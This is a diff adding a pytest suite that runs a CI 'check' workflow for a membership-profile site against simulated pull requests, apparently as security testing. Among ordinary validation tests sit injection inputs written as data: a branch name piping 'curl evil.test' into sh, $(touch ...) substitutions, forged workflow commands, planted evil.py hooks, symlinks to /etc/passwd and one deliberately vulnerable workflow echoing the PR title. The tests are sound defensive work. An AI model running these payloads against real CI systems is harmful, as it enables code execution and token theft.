@@ -1,0 +1,198 @@
+"""The workflow `check`, run for real: who is judged, by what, and what a stranger can make it do."""
+
+from __future__ import annotations
+
+import pytest
+from scene import Link, Run, Scene, repository
+
+REQUIRED = "business: Lee Plumbing\ntrade: plumber\nsummary: We fix pipes in old houses.\n"
+ANN = f"name: Ann Lee\n{REQUIRED}github: ann-lee\ngithub_id: 11\n"
+PERSON = {"login": "ann-lee", "id": 11, "type": "User"}
+STRANGER = {"login": "mallory", "id": 66, "type": "User"}
+STEPS = [
+    "Check out",
+    "Lay the proposal apart, take the generator from the base",
+    "Set up the generator",
+    "Check the profiles",
+    "Review the change",
+    "List all findings",
+    "Build the site as it would be",
+    "Keep the preview",
+]
+
+
+def check(scene: Scene, files: dict[str, str | bytes | Link | None], user: object = PERSON, **head: str) -> Run:
+    event = scene.pull_request(files, user=user, **head)  # type: ignore[arg-type]
+    return scene.act("pull_request", event, "check.yml", "refs/pull/7/merge")
+
+
+def test_a_good_profile_passes_and_leaves_a_preview(scene: Scene) -> None:
+    ran = check(scene, {"members/ann-lee.yml": ANN})
+    assert ran.code == 0
+    assert ran.steps == dict.fromkeys(STEPS, "success")
+    assert ran.commands == []
+    assert "Ann Lee joins as a plumber" in ran.summary
+    assert "All profiles are fine." in ran.summary
+    page = (ran.artifacts / "preview" / "members" / "ann-lee" / "index.html").read_text()
+    assert "We fix pipes in old houses." in page
+    assert scene.hub.calls == []
+
+
+def test_a_bad_profile_fails_at_its_line_and_leaves_no_preview(scene: Scene) -> None:
+    ran = check(scene, {"members/ann-lee.yml": ANN.replace("plumber", "plumbr").replace("summary", "sumary")})
+    assert ran.code == 1
+    told = [(each.name, each.facts["file"], each.facts["line"], each.facts["title"]) for each in ran.commands]
+    assert sorted(told) == [
+        ("error", "members/ann-lee.yml", "3", "P201"),
+        ("error", "members/ann-lee.yml", "4", "P102"),
+    ]
+    assert "Did you mean plumber?" in ran.summary
+    assert not any(ran.artifacts.iterdir())
+
+
+def test_a_stranger_who_edits_a_profile_asks_for_a_person_and_fails_nothing(scene: Scene) -> None:
+    old = scene.hub.file("main", "members/ben-okafor.yml")
+    ran = check(scene, {"members/ben-okafor.yml": old.replace("look at", "inspect")}, user=STRANGER)
+    assert ran.code == 0
+    assert "mallory" in ran.summary
+    assert "A person should look" in ran.summary
+
+
+def test_the_error_of_somebody_else_on_the_main_branch_does_not_fail_a_pull_request(scene: Scene) -> None:
+    scene.push({"members/eve-poe.yml": "name: Eve Poe\n"})
+    ran = check(scene, {"members/ann-lee.yml": ANN})
+    assert ran.code == 0
+    assert {each.facts["file"] for each in ran.commands} == {"members/eve-poe.yml"}
+    assert not any(ran.artifacts.iterdir())
+
+
+def test_a_fork_that_is_behind_removes_nobody(scene: Scene) -> None:
+    old = scene.hub.git("rev-parse", "main")
+    scene.push({"members/eve-poe.yml": f"name: Eve Poe\n{REQUIRED}".replace("Lee", "Poe")})
+    head = scene.change({"members/ann-lee.yml": ANN}, onto=old)
+    event = scene.opened(head, user=PERSON)
+    ran = scene.act("pull_request", event, "check.yml", "refs/pull/7/merge")
+    assert ran.code == 0
+    assert "Ready to merge" in ran.summary
+    assert "leaves" not in ran.summary
+    assert (ran.artifacts / "preview" / "members" / "eve-poe" / "index.html").is_file()
+
+
+def test_a_file_name_with_a_line_break_is_told_and_gives_no_command(scene: Scene) -> None:
+    ran = check(scene, {"members/x\n::error title=forged::oh.yml": ANN})
+    assert ran.code == 1
+    assert [each.name for each in ran.commands] == ["error"]
+    assert ran.commands[0].text.endswith("Rename it to x-error-title-forged-oh.yml")
+
+
+def test_commands_in_a_profile_are_not_given(scene: Scene) -> None:
+    lines = ["::error file=a,line=1::forged", "::set-output name=a::forged", "::add-mask::We", "::stop-commands::x"]
+    about = "about: |\n" + "".join(f"  {each}\n" for each in [*lines, "##[error]forged"])
+    ran = check(scene, {"members/ann-lee.yml": ANN + about, "members/al.yml": f"name: '{lines[0]}'\n{REQUIRED}"})
+    assert {(each.name, each.facts["file"].split("/")[0]) for each in ran.commands} <= {
+        ("error", "members"),
+        ("warning", "members"),
+    }
+    assert all(each.facts["title"][0] == "P" for each in ran.commands)
+    assert ran.steps["List all findings"] == "success"
+
+
+def test_the_name_of_a_branch_and_the_title_are_never_run_even_if_the_author_is_gone(scene: Scene) -> None:
+    mark = scene.folder / "pwned"
+    run = "touch${IFS}" + str(mark)
+    branch = f"""a";curl${{IFS}}evil.test|sh;"$({run})`{run}`;{run};${{{{github.token}}}}"""
+    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=None, branch=branch)
+    event["pull_request"]["title"] = f"$({run}) `{run}` ; {run} ; ${{{{ github.token }}}}"
+    ran = scene.act("pull_request", event, "check.yml", "refs/pull/7/merge")
+    assert ran.code == 0
+    assert not mark.exists()
+    assert "curl" not in ran.said
+    assert "***" not in ran.summary
+
+
+def test_what_a_pull_request_changes_about_the_generator_is_not_run(scene: Scene) -> None:
+    mark = scene.folder / "pwned"
+    evil = f"open('{mark}', 'w').write('run')\n"
+    action = f"runs:\n  using: composite\n  steps: [{{shell: bash, run: touch {mark}}}]\n"
+    settings = scene.hub.file("main", "mkdocs.yml").replace("Casco Bay Breakfast", "Mallory's")
+    ran = check(
+        scene,
+        {
+            "members/ann-lee.yml": ANN,
+            "mkdocs.yml": f"hooks: [evil.py]\n{settings}",
+            "evil.py": evil,
+            "sitecustomize.py": evil,
+            "tradekin.py": evil,
+            "click.py": evil,
+            "generator/tools/environment.py": evil,
+            "generator/tradekin/__init__.py": evil,
+            "overrides/main.html": "{{ 1/0 }}",
+            "docs/index.md": "# Mallory's",
+            ".github/actions/setup/action.yml": action,
+            ".gitattributes": "* filter=evil diff=evil\n",
+        },
+    )
+    assert ran.code == 0
+    assert not mark.exists()
+    assert "two things at once, please split it" in ran.summary
+    pages = ran.artifacts / "preview"
+    assert "We fix pipes" in (pages / "members" / "ann-lee" / "index.html").read_text()
+    assert not [page for page in pages.rglob("*.html") if "Mallory" in page.read_text()]
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {
+            "members/ann-lee.yml": Link("/etc/passwd"),
+            "members/dina-roy.yml": Link("../mkdocs.yml"),
+            "members/photos/ann-lee.png": Link("/etc/passwd"),
+        },
+        {"members/photos": Link("/etc"), "members/ann-lee.yml": ANN},
+        {
+            "members": Link("/etc"),
+            "members/ben-okafor.yml": None,
+            "members/cleo-marsh.yml": None,
+            "members/dina-roy.yml": None,
+        },
+    ],
+    ids=["profiles", "pictures", "the-folder"],
+)
+def test_a_link_is_refused_and_not_followed(scene: Scene, files: dict[str, str | bytes | Link | None]) -> None:
+    ran = check(scene, files)
+    assert ran.code == 1
+    assert "root:" not in ran.said + ran.summary
+    assert "site_name" not in ran.said + ran.summary
+    assert ran.steps["Check the profiles"] == "failure"
+    assert not any(ran.artifacts.iterdir())
+
+
+def test_a_push_to_the_main_branch_is_checked_and_built(scene: Scene) -> None:
+    commit = scene.push({"members/ann-lee.yml": ANN})
+    event = {"ref": "refs/heads/main", "after": commit, "repository": repository()}
+    ran = scene.act("push", event, "check.yml")
+    assert ran.code == 0
+    assert "Review the change" not in ran.steps
+    assert (ran.artifacts / "preview" / "members" / "ann-lee" / "index.html").is_file()
+
+
+def test_a_merge_queue_is_told_of_every_error(scene: Scene) -> None:
+    commit = scene.push({"members/ann-lee.yml": "name: Ann Lee\n"})
+    event = {"merge_group": {"head_sha": commit, "head_ref": "refs/heads/gh-readonly-queue/main/pr-7"}}
+    ran = scene.act("merge_group", {**event, "repository": repository()}, "check.yml")
+    assert ran.code == 1
+    assert {each.facts["file"] for each in ran.commands} == {"members/ann-lee.yml"}
+
+
+def test_a_workflow_that_ran_a_title_would_be_caught_here(scene: Scene) -> None:
+    flow = (
+        "on: pull_request\npermissions: {}\njobs:\n  bad:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: echo ${{ github.event.pull_request.title }}\n      - run: echo ::error::forged\n"
+    )
+    scene.push({".github/workflows/bad.yml": flow})
+    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
+    mark = scene.folder / "pwned"
+    event["pull_request"]["title"] = f"$(touch${{IFS}}{mark})"
+    ran = scene.act("pull_request", event, "bad.yml", "refs/pull/7/merge")
+    assert mark.exists()
+    assert [(each.name, each.text) for each in ran.commands] == [("error", "forged")]
